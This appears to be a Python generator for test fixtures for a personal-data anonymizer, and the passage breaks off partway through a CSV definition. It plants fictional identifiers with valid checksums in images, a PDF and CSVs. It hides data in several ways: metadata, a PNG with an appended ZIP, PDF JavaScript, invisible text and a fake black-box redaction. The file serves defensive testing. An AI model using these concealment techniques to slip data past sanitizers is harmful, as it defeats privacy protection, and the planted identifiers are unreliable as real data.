"""Regenerate the evidence corpus used by the anonymizer tests.

Run from the project root:  .venv/bin/python tests/data/evidence/make_corpus.py

Every file carries *planted* personal values (one fictional member, see the constants
below). ``planted.json`` lists, for each file, the strings that must not survive anywhere in the
anonymized output (bytes, metadata, OCR of the output) and the strings that must still be
readable. Output is deterministic: fixed dates, seeded randomness, no "now".

Why each file exists:

- ``photo_exif_gps.jpg``: camera photo. EXIF (Make/Model, Artist, ImageDescription with the mobile
  number, DateTimeOriginal, body serial), a GPS IFD, XMP, a JPEG COM segment, and Orientation 6:
  a cleaner that drops EXIF without applying the rotation first returns a sideways picture.
- ``chunks.png``: PNG text chunks (tEXt, zTXt compressed, iTXt in Chinese), an eXIf chunk and an
  ICC profile: a PNG re-save keeps some of these.
- ``xmp.webp``: WebP with XMP and EXIF chunks (RIFF container, not TIFF/PNG chunks).
- ``screenshot_zh.png``: a payment-app screenshot whose *pixels* hold the name, mobile number and
  resident ID (must be blacked out after OCR) next to an order number that is evidence.
- ``screenshot_wechat.png``: dark-mode chat (light text on dark bubbles) with the WeChat id, a card
  number in groups of four and the e-mail: OCR and box drawing on inverted contrast.
- ``statement.pdf``: a statement with visible PII plus every PDF hiding place: Info, XMP,
  OpenAction JavaScript, an annotation, an embedded file, invisible (3 Tr) and white-on-white
  text, text under a black box (a fake redaction), and an incremental update whose first
  revision still holds PLANTED-OLD-REVISION in the bytes.
- ``account_export.csv`` / ``account_export_en.csv``: payment-app exports; PII sits in account and
  note columns beside order numbers and amounts that must survive.
- ``statement.txt``: running text with every kind of value, in the spellings people type (spaces
  and dashes in numbers, grouped IBAN, pinyin name).
- ``polyglot.png``: a valid PNG with a ZIP appended after IEND: accepted, but the payload must go.
- Bad inputs, which must be rejected: ``corrupt.png`` (truncated in IDAT), ``bomb.png``
  (30000x30000 declared), ``polyglot.gif`` (GIF that is also a ZIP; GIF is not accepted),
  ``unknown.bin`` (ELF header), ``html_as.png`` (HTML with a script, named .png), ``empty.txt``.
"""

from __future__ import annotations

import csv
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable
from datetime import UTC, datetime
from pathlib import Path

import pikepdf
from fpdf import FPDF
from PIL import ExifTags, Image, ImageCms, ImageDraw, ImageFont, PngImagePlugin, TiffImagePlugin
from stdnum import iban, luhn
from stdnum.cn import ric

HERE = Path(__file__).resolve().parent
FONT = "/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc"
FONT_SC = 2  # face index of Simplified Chinese in the collection

# --- The fictional member (every value is planted somewhere) -----------------------------------
NAME = "张伟明"
NAME_PINYIN = "Zhang Weiming"
PHONE = "13812345678"
PHONE_SPACED = "138 1234 5678"
PHONE_DASHED = "138-1234-5678"
RIC = "11010519491231002X"  # resident ID, MOD 11-2 valid
CARD = "6222021234567890128"  # 19-digit UnionPay, Luhn valid
CARD_GROUPED = "6222 0212 3456 7890 128"
CARD_DASHED = "6222-0212-3456-7890-128"
EMAIL = "zhang.weiming@example.com"
ALIPAY = "2088123412341234"
WECHAT = "wxid_k3j9x2m1"
IBAN = "GB82WEST12345698765432"
IBAN_GROUPED = "GB82 WEST 1234 5698 7654 32"
LAT, LON = 39.9042, 116.4074  # Beijing, Tiananmen
CAMERA_MAKE = "PlantedCam"
CAMERA_MODEL = "PlantedCam X100"
SHOT_AT = "2024:05:01 14:23:05"

# Evidence that must survive (the respondent's identifiers, amounts, order numbers).
ORDER_NO = "2024050112345678901234"
RESPONDENT = "示例科技有限公司"
RESPONDENT_EN = "Example Tech Co., Ltd."
MERCHANT_NO = "M100200300"

FIXED_DATE = datetime(2024, 5, 2, 9, 0, 0, tzinfo=UTC)
PDF_DATE = "D:20240502090000Z"

_fonts: dict[int, ImageFont.FreeTypeFont] = {}


def font(size: int) -> ImageFont.FreeTypeFont:
    if size not in _fonts:
        _fonts[size] = ImageFont.truetype(FONT, size, index=FONT_SC)
    return _fonts[size]


def check_constants() -> None:
    assert ric.is_valid(RIC), RIC
    assert luhn.is_valid(CARD), CARD
    assert iban.is_valid(IBAN), IBAN
    assert CARD_GROUPED.replace(" ", "") == CARD
    assert PHONE_SPACED.replace(" ", "") == PHONE


def xmp_packet(creator: str, description: str) -> bytes:
    """A minimal, well-formed XMP packet (UTF-8) with dc:creator and dc:description."""
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">\n'
        ' <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n'
        '  <rdf:Description rdf:about=""\n'
        '    xmlns:dc="http://purl.org/dc/elements/1.1/"\n'
        '    xmlns:xmp="http://ns.adobe.com/xap/1.0/"\n'
        '    xmlns:exif="http://ns.adobe.com/exif/1.0/">\n'
        f"   <dc:creator><rdf:Seq><rdf:li>{creator}</rdf:li></rdf:Seq></dc:creator>\n"
        "   <dc:description><rdf:Alt>"
        f'<rdf:li xml:lang="x-default">{description}</rdf:li></rdf:Alt></dc:description>\n'
        f"   <exif:GPSLatitude>{LAT}</exif:GPSLatitude>\n"
        f"   <exif:GPSLongitude>{LON}</exif:GPSLongitude>\n"
        "   <xmp:CreateDate>2024-05-01T14:23:05+08:00</xmp:CreateDate>\n"
        "  </rdf:Description>\n"
        " </rdf:RDF>\n"
        "</x:xmpmeta>\n"
        '<?xpacket end="w"?>'
    ).encode()


def _dms(value: float) -> tuple[TiffImagePlugin.IFDRational, ...]:
    deg = int(value)
    minutes_f = (value - deg) * 60
    minutes = int(minutes_f)
    sec_hundredths = round((minutes_f - minutes) * 60 * 100)
    R = TiffImagePlugin.IFDRational
    return (R(deg, 1), R(minutes, 1), R(sec_hundredths, 100))


def camera_exif(orientation: int | None = None, gps: bool = True) -> Image.Exif:
    exif = Image.Exif()
    B = ExifTags.Base
    exif[B.Make] = CAMERA_MAKE
    exif[B.Model] = CAMERA_MODEL
    exif[B.Artist] = f"PLANTED-EXIF-ARTIST {NAME_PINYIN}"
    exif[B.ImageDescription] = f"Evidence photo, call {PHONE}"
    exif[B.Copyright] = "PLANTED-EXIF-ARTIST"
    exif[B.Software] = "PlantedCam Firmware 1.0"
    exif[B.DateTime] = SHOT_AT
    if orientation is not None:
        exif[B.Orientation] = orientation
    sub = exif.get_ifd(ExifTags.IFD.Exif)
    sub[B.DateTimeOriginal] = SHOT_AT
    sub[B.DateTimeDigitized] = SHOT_AT
    sub[B.BodySerialNumber] = "PLANTED-SERIAL-0001"
    sub[B.CameraOwnerName] = NAME_PINYIN
    if gps:
        g = exif.get_ifd(ExifTags.IFD.GPSInfo)
        G = ExifTags.GPS
        g[G.GPSVersionID] = b"\x02\x02\x00\x00"
        g[G.GPSLatitudeRef] = "N"
        g[G.GPSLatitude] = _dms(LAT)
        g[G.GPSLongitudeRef] = "E"
        g[G.GPSLongitude] = _dms(LON)
        g[G.GPSDateStamp] = "2024:05:01"
    return exif


def icc_srgb() -> bytes:
    """LittleCMS sRGB profile with its creation date pinned (lcms stamps "now")."""
    data = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    data[24:36] = struct.pack(">6H", 2024, 5, 1, 0, 0, 0)
    return bytes(data)


def gradient(size: tuple[int, int], top: tuple[int, int, int], bottom: tuple[int, int, int]):
    w, h = size
    col = Image.new("RGB", (1, h))
    for y in range(h):
        t = y / max(h - 1, 1)
        rgb = tuple(round(a + (b - a) * t) for a, b in zip(top, bottom, strict=True))
        col.putpixel((0, y), rgb)
    return col.resize((w, h))


def entry(kind: str, planted: Iterable[str], visible: Iterable[str], notes: str) -> dict:
    return {"kind": kind, "planted": list(planted), "visible": list(visible), "notes": notes}


def bad(expect: str, notes: str) -> dict:
    return {"kind": "bad", "expect": expect, "notes": notes}


# --- Images --------------------------------------------------------------------------------------


def make_photo(path: Path) -> dict:
    # Draw the scene upright (portrait 600x800), then store it rotated so that Orientation=6
    # (rotate 90 degrees clockwise to display) turns it upright again.
    upright = gradient((600, 800), (70, 110, 160), (230, 200, 150))
    d = ImageDraw.Draw(upright)
    rnd = random.Random(20240501)
    for _ in range(25):  # some "photo" texture: soft blobs
        x, y, r = rnd.randrange(600), rnd.randrange(800), rnd.randrange(10, 60)
        shade = rnd.randrange(120, 220)
        d.ellipse((x - r, y - r, x + r, y + r), fill=(shade, shade - 20, shade - 40))
    d.rounded_rectangle((60, 250, 540, 560), radius=24, fill="white", outline=(90, 90, 90), width=3)
    d.text((300, 340), "转账失败", font=font(72), fill=(200, 30, 30), anchor="mm")
    d.text((300, 470), "199.00", font=font(72), fill="black", anchor="mm")
    stored = upright.transpose(Image.Transpose.ROTATE_90)  # 800x600
    assert stored.size == (800, 600)
    stored.save(
        path,
        "JPEG",
        quality=85,
        exif=camera_exif(orientation=6),
        comment=b"PLANTED-COMMENT " + PHONE.encode(),
        xmp=xmp_packet("PLANTED-XMP-SECRET", EMAIL),
    )
    return entry(
        "image",
        [
            CAMERA_MAKE,
            CAMERA_MODEL,
            "PLANTED-EXIF-ARTIST",
            NAME_PINYIN,
            PHONE,
            SHOT_AT,
            "PLANTED-SERIAL-0001",
            "PLANTED-COMMENT",
            "PLANTED-XMP-SECRET",
            EMAIL,
            str(LAT),
            str(LON),
        ],
        ["转账失败", "199.00"],
        "Stored pixels are 800x600 with EXIF Orientation=6; displayed upright they are 600x800. "
        "Expected output size (600, 800), text upright, no Orientation tag (or 1). "
        "EXIF IFD0: Make/Model/Artist/Copyright/ImageDescription (phone)/DateTime; Exif IFD: "
        "DateTimeOriginal, BodySerialNumber, CameraOwnerName; GPS IFD: 39.9042 N / 116.4074 E as "
        "rationals (check the output has no GPS IFD: the numbers are not strings there). XMP "
        "(APP1) holds PLANTED-XMP-SECRET, the e-mail and the coordinates as text. COM segment: "
        "PLANTED-COMMENT + phone.",
    )


def make_chunks_png(path: Path) -> dict:
    img = Image.new("RGB", (800, 400), (245, 247, 250))
    d = ImageDraw.Draw(img)
    d.text((400, 140), "退款申请", font=font(64), fill=(20, 20, 20), anchor="mm")
    d.text((400, 260), "199.00", font=font(64), fill=(20, 20, 20), anchor="mm")
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", f"PLANTED-PNG-TEXT {NAME_PINYIN} {PHONE}")  # tEXt (latin-1)
    info.add_text("Comment", f"PLANTED-PNG-ZTXT {ALIPAY}", zip=True)  # zTXt (deflated)
    info.add_itxt("Description", f"PLANTED-PNG-ITXT {NAME} 身份证 {RIC}", lang="zh-CN", tkey="描述")
    info.add_itxt("Source", f"PLANTED-PNG-ITXT-Z {WECHAT}", lang="en", zip=True)
    img.save(
        path,
        "PNG",
        pnginfo=info,
        icc_profile=icc_srgb(),
        exif=camera_exif(gps=False),
        optimize=True,
    )
    return entry(
        "image",
        [
            "PLANTED-PNG-TEXT",
            "PLANTED-PNG-ZTXT",
            "PLANTED-PNG-ITXT",
            "PLANTED-PNG-ITXT-Z",
            "PLANTED-EXIF-ARTIST",
            CAMERA_MAKE,
            NAME,
            NAME_PINYIN,
            PHONE,
            ALIPAY,
            RIC,
            WECHAT,
        ],
        ["退款申请", "199.00"],
        "tEXt Author (PLANTED-PNG-TEXT, pinyin name, phone); zTXt Comment (PLANTED-PNG-ZTXT, "
        "Alipay id; deflated, so not in the raw bytes as text); iTXt Description lang zh-CN "
        "(PLANTED-PNG-ITXT, name, resident ID, UTF-8 uncompressed); compressed iTXt Source "
        "(PLANTED-PNG-ITXT-Z, WeChat id); eXIf chunk (camera EXIF, no GPS); iCCP sRGB profile "
        "(no planted text; decide whether the output may keep a standard sRGB profile).",
    )


def make_webp(path: Path) -> dict:
    img = gradient((800, 400), (250, 250, 250), (215, 225, 240))
    d = ImageDraw.Draw(img)
    d.text((400, 140), "申请退款", font=font(64), fill=(20, 20, 20), anchor="mm")
    d.text((400, 260), "199.00", font=font(64), fill=(20, 20, 20), anchor="mm")
    img.save(
        path,
        "WEBP",
        quality=90,
        method=4,
        exif=camera_exif(gps=True).tobytes(),
        xmp=xmp_packet("PLANTED-XMP-SECRET", f"{EMAIL} {NAME}"),
    )
    return entry(
        "image",
        [
            "PLANTED-XMP-SECRET",
            EMAIL,
            NAME,
            "PLANTED-EXIF-ARTIST",
            CAMERA_MAKE,
            PHONE,
            SHOT_AT,
            str(LAT),
            str(LON),
        ],
        ["申请退款", "199.00"],
        "Lossy WebP (VP8X container). XMP chunk: dc:creator PLANTED-XMP-SECRET, dc:description "
        "e-mail + name, GPS as text. EXIF chunk: camera EXIF with GPS IFD and phone in "
        "ImageDescription.",
    )


def status_bar(d: ImageDraw.ImageDraw, width: int, fg, bg) -> None:
    d.rectangle((0, 0, width, 90), fill=bg)
    d.text((50, 45), "9:41", font=font(36), fill=fg, anchor="lm")
    for i in range(4):  # signal bars
        h = 10 + i * 7
        d.rectangle((width - 230 + i * 16, 60 - h, width - 220 + i * 16, 60), fill=fg)
    d.text((width - 150, 45), "5G", font=font(30), fill=fg, anchor="mm")
    d.rounded_rectangle((width - 110, 30, width - 50, 60), radius=6, outline=fg, width=3)
    d.rectangle((width - 104, 36, width - 70, 54), fill=fg)


def make_screenshot_zh(path: Path) -> dict:
    w, h = 1080, 1600
    img = Image.new("RGB", (w, h), "white")
    d = ImageDraw.Draw(img)
    status_bar(d, w, (0, 0, 0), (255, 255, 255))
    d.text((w // 2, 160), "转账详情", font=font(48), fill="black", anchor="mm")
    d.line((0, 220, w, 220), fill=(225, 225, 225), width=2)
    d.text((w // 2, 330), "转账失败", font=font(56), fill=(220, 40, 40), anchor="mm")
    rows = [
        ("收款人", NAME),
        ("手机号", PHONE),
        ("身份证号", RIC),
        ("金额", "¥199.00"),
        ("订单号", ORDER_NO),
        ("时间", "2024-05-01 14:23"),
        ("商户", RESPONDENT),
    ]
    y = 470
    for label, value in rows:
        d.text((60, y), label, font=font(42), fill=(110, 110, 110), anchor="lm")
        d.text((300, y), value, font=font(44), fill="black", anchor="lm")
        d.line((60, y + 60, w - 60, y + 60), fill=(235, 235, 235), width=2)
        y += 120
    d.rounded_rectangle((90, 1380, w - 90, 1500), radius=20, fill=(22, 119, 255))
    d.text((w // 2, 1440), "联系客服", font=font(46), fill="white", anchor="mm")
    img.save(path, "PNG", optimize=True)
    return entry(
        "image",
        [NAME, PHONE, RIC],
        ["转账详情", "转账失败", "199.00", "联系客服"],
        "White phone screenshot, 1080x1600, Noto Sans CJK SC 42-56 px. PII only in the pixels "
        f"(rows 收款人/手机号/身份证号): black them out. Order number {ORDER_NO} and merchant "
        f"{RESPONDENT} are evidence and should stay (OCR reads the ¥ sign badly; match 199.00).",
    )


def _wrap(text: str, fnt: ImageFont.FreeTypeFont, max_w: int) -> list[str]:
    lines, cur = [], ""
    for ch in text:
        if fnt.getlength(cur + ch) > max_w and cur:
            lines.append(cur)
            cur = ch
        else:
            cur += ch
    return [*lines, cur]


def make_screenshot_wechat(path: Path) -> dict:
    w, h = 1080, 1700
    bg, bar, light = (17, 17, 17), (30, 30, 30), (230, 230, 230)
    img = Image.new("RGB", (w, h), bg)
    d = ImageDraw.Draw(img)
    status_bar(d, w, light, bar)
    d.rectangle((0, 90, w, 200), fill=bar)
    d.text((w // 2, 145), "客服", font=font(46), fill=light, anchor="mm")
    messages = [
        ("in", "您好，这里是客服，请问有什么可以帮您？"),
        ("out", "我要申请退款，金额 199.00"),
        ("in", "请提供微信号和退款银行卡号"),
        ("out", f"微信号 {WECHAT}"),
        ("out", f"卡号 {CARD_GROUPED}"),
        ("out", "邮箱也发您了"),
        ("in", f"已登记邮箱 {EMAIL}"),
        ("in", "退款已受理，请耐心等待"),
    ]
    # No avatars and these exact spacings: Tesseract 5.3 lost whole lines when coloured squares
    # sat beside the bubbles or the gaps were 40 px (checked by OCR of the generated file).
    f = font(42)
    y = 250
    for side, text in messages:
        lines = _wrap(text, f, 820)
        bw = max(int(f.getlength(line)) for line in lines) + 60
        bh = 61 * len(lines) + 40
        if side == "in":
            x0, fill, fg = 160, (32, 32, 32), light
        else:
            x0, fill, fg = w - 160 - bw, (62, 181, 117), (12, 12, 12)
        d.rounded_rectangle((x0, y, x0 + bw, y + bh), radius=14, fill=fill)
        for i, line in enumerate(lines):
            d.text((x0 + 30, y + 20 + i * 61), line, font=f, fill=fg)
        y += bh + 60
    d.rectangle((0, h - 140, w, h), fill=bar)
    d.rounded_rectangle((120, h - 110, w - 200, h - 30), radius=12, fill=(40, 40, 40))
    img.save(path, "PNG", optimize=True)
    return entry(
        "image",
        [WECHAT, CARD_GROUPED, CARD, EMAIL],
        ["客服", "退款", "199.00"],
        "Dark-mode chat, 1080x1700: light text on dark grey bubbles (incoming, including the "
        "e-mail echoed by the agent), dark text on green ones (WeChat id, card). "
        "Card shown in groups of four (OCR may drop the spaces: compare with whitespace "
        "removed; CARD is the same digits without spaces).",
    )


def make_polyglot_png(path: Path) -> dict:
    img = Image.new("RGB", (600, 300), (250, 250, 245))
    ImageDraw.Draw(img).text((300, 150), "199.00", font=font(72), fill="black", anchor="mm")
    buf = io.BytesIO()
    img.save(buf, "PNG", optimize=True)
    path.write_bytes(buf.getvalue())
    _append_zip(path, "secret.txt", f"PLANTED-POLYGLOT {RIC}\n".encode())
    return entry(
        "image",
        ["PLANTED-POLYGLOT", RIC, "secret.txt"],
        ["199.00"],
        "Valid PNG with a stored (uncompressed) ZIP appended after IEND (offsets are absolute, "
        "so `unzip -l` lists secret.txt). PNG is an accepted type: accept it, and the re-encode "
        "must drop everything after IEND.",
    )


def _append_zip(path: Path, name: str, data: bytes) -> None:
    # Mode "a" on a non-ZIP file appends an archive whose offsets count from the file start.
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_STORED) as zf:
        zi = zipfile.ZipInfo(name, date_time=(2024, 5, 1, 12, 0, 0))
        zi.create_system = 3
        zi.external_attr = 0o644 << 16
        zf.writestr(zi, data)


# --- PDF -----------------------------------------------------------------------------------------


def _fpdf_pages() -> bytes:
    pdf = FPDF(format="A4")
    pdf.set_creation_date(FIXED_DATE)
    pdf.set_producer("PlantedBank Statement Generator")
    pdf.add_font("NotoSC", fname=FONT, collection_font_number=FONT_SC)
    pdf.add_page()
    pdf.set_font("NotoSC", size=22)
    pdf.cell(0, 14, "交易流水", new_x="LMARGIN", new_y="NEXT", align="C")
    pdf.set_font("NotoSC", size=14)
    pdf.cell(0, 10, "示例银行 个人账户交易明细", new_x="LMARGIN", new_y="NEXT", align="C")
    pdf.ln(4)
    for line in (
        f"户名：{NAME}",
        f"手机号：{PHONE}",
        f"卡号：{CARD}",
        "查询期间：2024-04-01 至 2024-05-01",
    ):
        pdf.cell(0, 10, line, new_x="LMARGIN", new_y="NEXT")
    pdf.ln(4)
    pdf.set_font("NotoSC", size=12)
    widths = (30, 22, 25, 45, 68)
    rows = [
        ("日期", "摘要", "金额", "对方", "交易单号"),
        ("2024-04-03", "消费", "-199.00", RESPONDENT, "2024040322001400000001"),
        ("2024-04-10", "退款", "199.00", RESPONDENT, "2024041022001400000002"),
        ("2024-04-28", "消费", "-199.00", RESPONDENT, ORDER_NO),
        ("2024-05-01", "转账失败", "0.00", RESPONDENT, "2024050122001400000004"),
    ]
    for row in rows:
        for wdt, cell in zip(widths, row, strict=True):
            pdf.cell(wdt, 10, cell, border=1)
        pdf.ln(10)
    pdf.ln(4)
    pdf.set_font("NotoSC", size=14)
    pdf.cell(0, 10, "合计退款 199.00", new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


HIDDEN_OPS = (
    # Render mode 3: invisible but extractable.
    f"q BT /FPlant 9 Tf 3 Tr 1 0 0 1 56 60 Tm (PLANTED-HIDDEN-TEXT {RIC}) Tj ET Q\n"
    # White on white.
    f"q 1 1 1 rg BT /FPlant 9 Tf 0 Tr 1 0 0 1 56 46 Tm (PLANTED-HIDDEN-TEXT {EMAIL}) Tj ET Q\n"
    # Text under a black box: looks redacted, is not.
    f"q 0 g BT /FPlant 10 Tf 1 0 0 1 58 94 Tm (PLANTED-UNDER-BOX {ALIPAY}) Tj ET "
    "52 88 330 18 re f Q\n"
).encode()
OLD_REVISION_OPS = (
    f"q 0 g BT /FPlant 10 Tf 1 0 0 1 56 140 Tm (Remark: PLANTED-OLD-REVISION {WECHAT}) Tj ET Q\n"
).encode()
NEW_REVISION_OPS = (
    b"q 0 g BT /FPlant 10 Tf 1 0 0 1 56 140 Tm (Remark: corrected 2024-05-03) Tj ET Q\n"
)


def _first_revision() -> bytes:
    pdf = pikepdf.open(io.BytesIO(_fpdf_pages()))
    page = pdf.pages[0]
    # Page content uncompressed so grep finds the Helvetica strings in the bytes.
    contents = page.obj.Contents
    streams = list(contents) if isinstance(contents, pikepdf.Array) else [contents]
    data = b"".join(s.read_bytes() for s in streams)
    main = pdf.make_stream(data)
    hidden = pdf.make_stream(HIDDEN_OPS)
    old = pdf.make_stream(OLD_REVISION_OPS)
    page.obj.Contents = pikepdf.Array([main, hidden, old])
    fonts = page.obj.Resources.Font
    fonts.FPlant = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font,
            Subtype=pikepdf.Name.Type1,
            BaseFont=pikepdf.Name.Helvetica,
            Encoding=pikepdf.Name.WinAnsiEncoding,
        )
    )
    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Text,
                    Rect=pikepdf.Array([520, 780, 540, 800]),
                    Contents=pikepdf.String(f"PLANTED-PDF-ANNOT call {PHONE}"),
                    T=pikepdf.String("PLANTED-PDF-AUTHOR"),
                    M=pikepdf.String(PDF_DATE),
                )
            ]
        )
    )
    pdf.docinfo.Author = pikepdf.String("PLANTED-PDF-AUTHOR")
    pdf.docinfo.Title = pikepdf.String(f"Statement for {PHONE}")
    pdf.docinfo.Subject = pikepdf.String(f"Account holder {NAME_PINYIN}")
    pdf.docinfo.Keywords = pikepdf.String(f"{NAME} {EMAIL}")  # non-ASCII: stored UTF-16BE
    pdf.docinfo.Creator = pikepdf.String("PlantedBank Statement Generator")
    pdf.docinfo.ModDate = pikepdf.String(PDF_DATE)
    xmp = pdf.make_stream(xmp_packet("PLANTED-XMP-SECRET", f"{EMAIL} {NAME}"))
    xmp.Type = pikepdf.Name.Metadata
    xmp.Subtype = pikepdf.Name.XML
    pdf.Root.Metadata = xmp
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Action,
            S=pikepdf.Name.JavaScript,
            JS=pikepdf.String(f"app.alert('PLANTED-PDF-JS {PHONE}');"),
        )
    )
    pdf.attachments["note.txt"] = pikepdf.AttachedFileSpec(
        pdf,
        f"PLANTED-ATTACHMENT\n身份证号 {RIC}\n户名 {NAME}\n".encode(),
        description="PLANTED-ATTACHMENT",
        filename="note.txt",
        mime_type="text/plain",
        creation_date=PDF_DATE,
        mod_date=PDF_DATE,
    )
    out = io.BytesIO()
    pdf.save(
        out,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.none,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
        deterministic_id=True,
    )
    return out.getvalue()


def _incremental_update(rev1: bytes, old_data: bytes, new_data: bytes) -> bytes:
    """Append a revision replacing the stream whose data is old_data (classic xref + /Prev)."""
    assert rev1.rstrip().endswith(b"%%EOF")
    prev = int(rev1[rev1.rindex(b"startxref") + 9 :].split()[0])
    with pikepdf.open(io.BytesIO(rev1)) as pdf:
        # Object numbers change when qpdf writes the file: find the stream again by its data.
        (objgen,) = [
            o.objgen
            for o in pdf.objects
            if isinstance(o, pikepdf.Stream) and o.read_raw_bytes() == old_data
        ]
        trailer = pdf.trailer
        size = int(trailer.Size)
        root = trailer.Root.objgen
        info = trailer.Info.objgen
        doc_id = bytes(trailer.ID[0]).hex().upper()
    num, gen = objgen
    body = bytearray(rev1 if rev1.endswith(b"\n") else rev1 + b"\n")
    offset = len(body)
    body += f"{num} {gen} obj\n<< /Length {len(new_data)} >>\nstream\n".encode()
    body += new_data + b"\nendstream\nendobj\n"
    xref_at = len(body)
    body += f"xref\n{num} 1\n{offset:010d} {gen:05d} n \n".encode()
    body += (
        f"trailer\n<< /Size {size} /Root {root[0]} {root[1]} R /Info {info[0]} {info[1]} R "
        f"/Prev {prev} /ID [<{doc_id}> <{doc_id[::-1]}>] >>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    ).encode()
    return bytes(body)


def make_pdf(path: Path) -> dict:
    rev1 = _first_revision()
    path.write_bytes(_incremental_update(rev1, OLD_REVISION_OPS, NEW_REVISION_OPS))
    return entry(
        "pdf",
        [
            NAME,
            PHONE,
            CARD,
            RIC,
            EMAIL,
            ALIPAY,
            WECHAT,
            NAME_PINYIN,
            "PLANTED-PDF-AUTHOR",
            "PLANTED-XMP-SECRET",
            "PLANTED-PDF-JS",
            "PLANTED-PDF-ANNOT",
            "PLANTED-ATTACHMENT",
            "PLANTED-HIDDEN-TEXT",
            "PLANTED-UNDER-BOX",
            "PLANTED-OLD-REVISION",
        ],
        ["交易流水", "199.00", "合计退款", RESPONDENT],
        "One A4 page (fpdf2, Noto Sans CJK SC embedded). Visible PII to box out: 户名 name, "
        "手机号 phone, 卡号 card. Info: /Author PLANTED-PDF-AUTHOR, /Title with the phone, "
        "/Subject pinyin name, /Keywords name + e-mail (UTF-16BE). XMP /Metadata: "
        "PLANTED-XMP-SECRET, e-mail, name. /OpenAction JavaScript: PLANTED-PDF-JS + phone. "
        "Text annotation: PLANTED-PDF-ANNOT + phone. /Names/EmbeddedFiles note.txt: "
        "PLANTED-ATTACHMENT, resident ID, name. Extra content stream: PLANTED-HIDDEN-TEXT + ID "
        "in 3 Tr, PLANTED-HIDDEN-TEXT + e-mail white on white, PLANTED-UNDER-BOX + Alipay id "
        "under a black rectangle. Incremental update: revision 1 (cut at the first %%EOF) shows "
        "'Remark: PLANTED-OLD-REVISION wxid_k3j9x2m1'; revision 2 replaces that stream with "
        "'Remark: corrected 2024-05-03'. Streams added by the generator are uncompressed; the "
        "CJK page text is glyph ids (extract it with pypdfium2, not grep).",
    )


# --- CSV and text --------------------------------------------------------------------------------


def _write_csv(path: Path, header: list[str], rows: list[list[str]], bom: bool) -> None:
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\r\n")
        writer.writerow(header)
        writer.writerows(rows)


def _rows(table: str) -> list[list[str]]:
    """Rows written as 'a|b|c' lines with {placeholders} for the planted values."""
    values = {
        "name": NAME,
        "pinyin": NAME_PINYIN,
        "phone": PHONE,
        "phone_spaced": PHONE_SPACED,
        "phone_d": PHONE_DASHED,
        "card": CARD,
        "card_grouped": CARD_GROUPED,
        "card_dashed": CARD_DASHED,
        "iban": IBAN,
        "iban_grouped": IBAN_GROUPED,
        "email": EMAIL,
        "alipay": ALIPAY,
        "wechat": WECHAT,
        "order": ORDER_NO,
        "resp": RESPONDENT,
        "resp_en": RESPONDENT_EN,
        "merchant": MERCHANT_NO,
    }
    return [line.split("|") for line in table.format(**values).strip().splitlines()]


def make_account_csv(path: Path) -> dict:
    header = ["交易时间", "交易类型", "交易对方", "对方账户", "金额(元)", "交易单号", "备注"]
    rows = _rows(
        """
2024-04-01 09:12:33|转账|{name}|{alipay}|-500.00|2024040122001412340001|转入本人余额
2024-04-03 10:05:10|消费|{resp}|{merchant}|-199.00|2024040322001400000001|会员年费
2024-04-03 10:06:44|消费|{resp}|{merchant}|-199.00|2024040322001400000011|重复扣款
2024-04-05 18:40:02|转账|{name}|{phone}|200.00|2024040522001412340002|
2024-04-08 12:00:00|消费|{resp}|{merchant}|-19.90|2024040822001400000021|自动续费
2024-04-10 08:30:15|退款|{resp}|{merchant}|199.00|2024041022001400000002|部分退款
2024-04-12 21:15:49|转账|{name}|{email}|-50.00|2024041222001412340003|AA 饭钱
2024-04-15 11:11:11|咨询|{resp}|{merchant}|0.00|2024041522001400000031|联系人{name} {phone} 要求退款
2024-04-18 16:20:00|消费|{resp}|{merchant}|-199.00|2024041822001400000041|未经同意扣费
2024-04-22 09:45:30|投诉|{resp}|{merchant}|0.00|2024042222001400000051|电话{phone_d} 微信{wechat}
2024-04-28 13:02:47|消费|{resp}|{merchant}|-199.00|{order}|再次扣费
2024-05-01 14:23:05|退款|{resp}|{merchant}|0.00|2024050122001400000004|转账失败
"""
    )
    _write_csv(path, header, rows, bom=True)
    return entry(
        "csv",
        [NAME, PHONE, PHONE_DASHED, ALIPAY, EMAIL, WECHAT],
        [*header, RESPONDENT, MERCHANT_NO, ORDER_NO, "2024041822001400000041", "-199.00"],
        "UTF-8 with BOM, CRLF, 12 rows. 对方账户 holds the member's Alipay id, phone and e-mail "
        "(rows 1, 4, 7); 交易对方 the name; 备注 the name + phone (row 8) and a dashed phone + "
        "WeChat id (row 10). Respondent name, merchant number M100200300, 交易单号 and amounts "
        "are evidence and must stay.",
    )


def make_account_csv_en(path: Path) -> dict:
    header = ["Date", "Type", "Counterparty", "Account", "Amount", "Reference", "Note", "Card"]
    rows = _rows(
        """
2024-04-01|Transfer|{pinyin}|{iban}|-500.00|REF2024040100001|own account|{card}
2024-04-03|Purchase|{resp_en}|{merchant}|-199.00|REF2024040300002|annual fee|{card_grouped}
2024-04-05|Transfer|{pinyin}|+86 {phone_spaced}|200.00|REF2024040500003||{card}
2024-04-10|Refund|{resp_en}|{merchant}|199.00|REF2024041000004|partial refund|{card_dashed}
2024-04-12|Transfer|{name}|{email}|-50.00|REF2024041200005|dinner|{card}
2024-04-18|Purchase|{resp_en}|{merchant}|-199.00|REF2024041800006|call me on {phone}|{card}
2024-04-22|Complaint|{resp_en}|{merchant}|0.00|REF2024042200007|WeChat {wechat}|6222 **** **** 0128
